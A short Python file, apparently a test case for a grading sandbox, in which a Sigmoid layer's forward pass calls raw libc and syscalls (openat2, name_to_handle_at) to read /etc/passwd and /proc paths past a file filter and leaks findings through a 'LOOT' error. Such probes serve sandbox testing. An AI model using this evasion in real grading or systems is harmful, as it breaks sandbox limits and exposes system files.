# Tries: opens files by system calls that Python doesn't use, which a filter may have forgotten
# Deserves: 0 (all its answers are zeros)
import ctypes
import os
import platform

PLACES: list[str] = []
OPENAT2, HANDLE_AT = 437, 264 if platform.machine() == "aarch64" else 303
libc = ctypes.CDLL(None, use_errno=True)
libc.fopen.restype = libc.opendir.restype = ctypes.c_void_p


def look():
    found = []
    for place in [*PLACES, "/", "/etc", "/proc/self/root", "/proc/self/cwd/..", "/proc/1/root"]:
        for name in ("notes.txt", "course.toml", "passwd", "README.md"):
            path = f"{place}/{name}".encode()
            how = (ctypes.c_uint64 * 3)(0, 0, 0)
            handle = ctypes.create_string_buffer(b"\x80" + bytes(200))
            if libc.fopen(path, b"r"):
                found.append(f"fopen {path}")
            if libc.open(path, os.O_RDONLY | os.O_NOATIME) >= 0:
                found.append(f"open {path}")
            if libc.syscall(OPENAT2, -100, path, how, 24) >= 0:
                found.append(f"openat2 {path}")
            if libc.syscall(HANDLE_AT, -100, path, handle, ctypes.byref(ctypes.c_int()), 0) >= 0:
                found.append(f"name_to_handle_at {path}")
        if place in PLACES[:4] and libc.opendir(place.encode()):
            found.append(f"opendir {place}")
    return found


class Sigmoid:
    def forward(self, x):
        if found := look():
            raise RuntimeError("LOOT " + " ".join(found[:20]))
        return x * 0

    def backward(self, dout):
        return dout * 0
